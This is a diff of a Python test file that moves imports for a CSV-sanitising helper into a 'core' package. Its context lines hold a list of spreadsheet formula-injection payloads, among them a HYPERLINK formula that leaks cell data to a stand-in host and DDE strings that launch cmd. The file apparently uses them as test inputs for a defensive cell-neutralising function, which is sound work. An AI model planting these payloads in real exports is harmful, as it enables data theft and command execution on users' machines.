@@ -11,9 +11,9 @@ import io
 import pytest
 from sqlalchemy import select
 
-from webmap.db import db
-from webmap.hardening.csvsafe import neutralise_cell
-from webmap.models import Asset
+from webmap.core.db import db
+from webmap.core.csvsafe import neutralise_cell
+from webmap.core.models import Asset
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)", "\t=1+1", "\r=1+1"]
